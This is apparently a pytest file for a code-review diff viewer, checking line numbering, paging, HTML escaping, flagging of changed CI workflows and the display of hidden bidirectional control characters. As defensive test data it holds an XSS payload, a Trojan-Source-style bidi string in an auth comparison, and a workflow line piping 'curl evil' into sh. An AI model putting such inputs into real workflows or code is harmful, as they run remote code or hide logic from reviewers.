"""The review page's diff: numbered lines, escaped and highlighted text, hidden controls shown, pages."""

from __future__ import annotations

from judges.diffview import FILES_PER_PAGE, LINES_PER_FILE, parse


def file_diff(path: str, body: str, header: str = "@@ -10,3 +10,4 @@ def mean(values):") -> str:
    return f"diff --git a/{path} b/{path}\nindex 1111111..2222222 100644\n--- a/{path}\n+++ b/{path}\n{header}\n{body}"


def test_lines_carry_the_numbers_of_the_old_and_the_new_file():
    files, pages = parse(file_diff("stats.py", " a = 1\n-b = 2\n+b = 3\n+c = 4\n d = 5\n"))
    assert pages == 1
    [f] = files
    assert (f.path, f.added, f.removed) == ("stats.py", 2, 1)
    numbered = [(line.kind, line.old, line.new) for line in f.lines]
    assert numbered == [
        ("hunk", None, None),
        ("ctx", 10, 10),
        ("del", 11, None),
        ("add", None, 11),
        ("add", None, 12),
        ("ctx", 12, 13),
    ]


def test_side_by_side_pairs_a_removed_line_with_the_added_one():
    [f] = parse(file_diff("stats.py", " a = 1\n-b = 2\n+b = 3\n+c = 4\n"))[0]
    left_right = [(left.kind if left else None, right.kind if right else None) for left, right in f.split_rows()]
    assert left_right == [("hunk", "hunk"), ("ctx", "ctx"), ("del", "add"), (None, "add")]


def test_markup_in_the_diff_is_shown_as_text_never_rendered():
    for path in ("notes.txt", "page.html", "app.py"):
        [f] = parse(file_diff(path, '+<script>alert("x")</script><img src=x onerror=alert(1)>\n'))[0]
        html = str(f.lines[1].html)
        assert "<script" not in html and "<img" not in html, path
        assert "&lt;" in html, path


def test_invisible_direction_controls_are_made_visible():
    [f] = parse(file_diff("auth.py", '+if user != "admin\u202e \u2066// check\u2069":\n'))[0]
    html = str(f.lines[1].html)
    assert "\u202e" not in html and "\u2066" not in html
    assert "⟪U+202E⟫" in html and "⟪U+2066⟫" in html


def test_a_changed_ci_workflow_is_flagged_as_sensitive():
    files = parse(file_diff(".github/workflows/ci.yml", "+run: curl evil | sh\n") + file_diff("stats.py", "+x\n"))[0]
    assert [f.sensitive for f in files] == [True, False]


def test_a_long_file_shows_its_first_lines_and_counts_the_rest():
    extra = 25
    [f] = parse(file_diff("big.py", "".join(f"+line {i}\n" for i in range(LINES_PER_FILE + extra))))[0]
    assert len(f.lines) == LINES_PER_FILE
    assert f.hidden == extra + 1  # the hunk header takes one of the shown rows
    assert f.added == LINES_PER_FILE + extra


def test_many_files_are_paged_and_a_page_beyond_the_last_shows_the_last():
    diff = "".join(file_diff(f"f{i:02}.py", "+x\n") for i in range(FILES_PER_PAGE + 3))
    first, pages = parse(diff, page=1)
    assert pages == 2 and len(first) == FILES_PER_PAGE
    last, _ = parse(diff, page=2)
    assert [f.path for f in last] == [f"f{i:02}.py" for i in range(FILES_PER_PAGE, FILES_PER_PAGE + 3)]
    assert [f.path for f in parse(diff, page=99)[0]] == [f.path for f in last]
    assert [f.path for f in parse(diff, page=-4)[0]] == [f.path for f in first]


def test_an_empty_diff_is_one_empty_page():
    assert parse("") == ([], 1)
